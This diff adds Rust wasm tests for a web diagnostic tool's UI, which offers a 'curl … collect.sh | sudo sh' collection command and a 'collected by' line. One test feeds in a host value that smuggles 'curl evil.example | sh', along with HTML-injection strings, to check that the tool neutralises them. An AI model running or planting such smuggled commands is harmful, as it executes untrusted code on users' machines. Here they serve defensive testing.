@@ -544,3 +544,79 @@ fn loops_heredocs_and_continuations_are_one_command() {
     assert!(groups[3].ends_with("https://example.com/"));
     assert!(groups[4].ends_with("fi"));
 }
+
+const COLLECTED: &str = include_str!("fixtures/collector/debian-vm-no-systemd.txt");
+
+/// The folder the test page is served from (`http://host:port/dir/`).
+fn page_folder() -> String {
+    let href = web_sys::window()
+        .and_then(|w| w.location().href().ok())
+        .unwrap_or_default();
+    let path_end = href.find(['?', '#']).unwrap_or(href.len());
+    let page = href.get(..path_end).unwrap_or(&href);
+    page.get(..page.rfind('/').map_or(0, |i| i + 1))
+        .unwrap_or_default()
+        .to_string()
+}
+
+#[wasm_bindgen_test]
+async fn undecided_the_page_offers_collect_sh_from_its_folder_with_the_host() {
+    let root = mount().await;
+    // Before anything is pasted: no host to name.
+    let before = text_of(&root, "[data-collect-offer] [data-collect-command]");
+    assert_eq!(
+        before,
+        format!("curl -fsS {}collect.sh | sudo sh", page_folder())
+    );
+    type_into_paste(&root, PAGE_521).await;
+    let command = text_of(&root, ".report [data-collect-offer] [data-collect-command]");
+    assert_eq!(
+        command,
+        format!(
+            "curl -fsS {}collect.sh | sudo sh -s -- --host www.example-store.com",
+            page_folder()
+        )
+    );
+    // A decided case does not offer it; a collected one says who gathered it.
+    type_into_paste(&root, COLLECTED).await;
+    assert!(root
+        .query_selector("[data-collect-offer]")
+        .ok()
+        .flatten()
+        .is_none());
+    assert_eq!(
+        text_of(&root, ".collected-by"),
+        "Collected by collect.sh v1, 2026-12-08 00:01:38 UTC, on host vm"
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a_hostile_host_never_reaches_the_command_or_the_markup() {
+    use err521::collector::CollectorRun;
+    use err521::ui::components::collect_offer::{CollectOffer, Props as OfferProps};
+    use err521::ui::components::collected_by::{CollectedBy, Props as ByProps};
+    let root = mount_with::<CollectOffer>(OfferProps {
+        host: Some("www.shop.io; curl evil.example | sh".into()),
+    })
+    .await;
+    let command = text_of(&root, "[data-collect-command]");
+    assert!(command.ends_with("/collect.sh | sudo sh"), "{command}");
+    let root = mount_with::<CollectedBy>(ByProps {
+        run: CollectorRun {
+            input: "paste".into(),
+            line: 1,
+            version: 1,
+            date: "<i>now</i>".into(),
+            host: Some("<b>web1</b>".into()),
+            site: None,
+            root: false,
+            absent: vec!["csf".into(), "<img src=x>".into()],
+        },
+    })
+    .await;
+    let text = root.text_content().unwrap_or_default();
+    assert!(text.contains("on host <b>web1</b>"), "{text}");
+    assert!(text.contains("without root"), "{text}");
+    assert!(text.contains("csf, <img src=x>"), "{text}");
+    assert!(root.query_selector("b, i, img").ok().flatten().is_none());
+}
